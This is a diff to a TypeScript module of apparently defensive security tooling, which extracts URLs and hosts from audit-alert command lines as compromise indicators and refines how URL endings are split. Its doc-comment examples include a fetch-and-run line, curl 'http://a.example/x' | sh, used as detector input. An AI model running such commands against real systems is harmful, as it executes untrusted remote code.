@@ -6,8 +6,7 @@
  * @module
  */
 import { type Alert, textAt } from "../alert.ts";
-import type { Candidate } from "../ioc.ts";
-import { type Finding, hasGroup, type Source } from "./source.ts";
+import { type Finding, hasGroup, type Source, urlAndHost } from "./source.ts";
 
 /** See {@linkcode Source}. */
 export const audit: Source = {
@@ -25,10 +24,7 @@ interface Argument {
 
 function find(alert: Alert): Finding[] {
   const found = commandLine(alert).flatMap(({ text, field }) =>
-    urlsIn(text).flatMap((url): Candidate[] => [
-      { kind: "url", text: url, field },
-      { kind: "host", text: URL.parse(url)?.hostname ?? "", field },
-    ])
+    urlsIn(text).flatMap((url) => urlAndHost(url, field))
   );
   return found.length > 0 ? found : [{
     text: textAt(alert, "data.audit.exe") ?? "",
@@ -82,9 +78,12 @@ function decodeHex(hex: string): string {
   return new TextDecoder().decode(new Uint8Array(bytes));
 }
 
+/** A longer text is no URL that is asked for; it must not cost time. */
+const MAX_URL_LENGTH = 5000;
+
 /**
- * The URLs in a text, wherever they stand. Where a `;` may end a shell's
- * command or belong to the URL, both readings are given.
+ * The URLs in a text, wherever they stand, one inside another too. Where a
+ * mark may end a shell's word or belong to the URL, both readings are given.
  *
  * @example
  * ```ts
@@ -94,20 +93,37 @@ function decodeHex(hex: string): string {
  * assertEquals(urlsIn("curl 'http://a.example/x' | sh"), [
  *   "http://a.example/x",
  * ]);
+ * assertEquals(urlsIn("http://a.example/x;sh"), [
+ *   "http://a.example/x;sh",
+ *   "http://a.example/x",
+ * ]);
  * ```
  */
 export function urlsIn(text: string): string[] {
-  const urls = text.match(/(?:https?|ftp):\/\/[^\s"'`<>|\\^{}]+/gi) ?? [];
-  return urls.flatMap((url) => {
-    const whole = withoutEnd(url.split("&&", 1)[0] ?? url);
-    const [beforeSemicolon = whole] = whole.split(";", 1);
-    return [...new Set([whole, beforeSemicolon])];
+  const starts = text.matchAll(/(?<![a-z])(?:https?|ftp):\/\//gi);
+  return [...starts].flatMap(({ index }) => {
+    const rest = text.slice(index, index + MAX_URL_LENGTH);
+    const [word = ""] = /^[^\s"'`<>|\\^{}]+/.exec(rest) ?? [];
+    const [beforeAnd = word] = word.split("&&", 1);
+    const readings = [
+      beforeAnd,
+      ...[";", ",", "&"].flatMap((mark) => {
+        const end = beforeAnd.indexOf(mark);
+        // After a "?", a "&" comes between parameters.
+        const isParameter = mark === "&" &&
+          beforeAnd.slice(0, end).includes("?");
+        return end === -1 || isParameter ? [] : [beforeAnd.slice(0, end)];
+      }),
+    ];
+    return [...new Set(readings.map(withoutEnd))];
   });
 }
 
 /** Takes off what ends a sentence or a command, and is no part of the URL. */
 function withoutEnd(url: string): string {
-  const marks = url.includes("(") ? ".,;:!]&" : ".,;:!)]&";
+  const marks = `.,;:!&${url.includes("(") ? "" : ")"}${
+    url.includes("[") ? "" : "]"
+  }`;
   let end = url.length;
   while (end > 0 && marks.includes(url.charAt(end - 1))) end--;
   return url.slice(0, end);
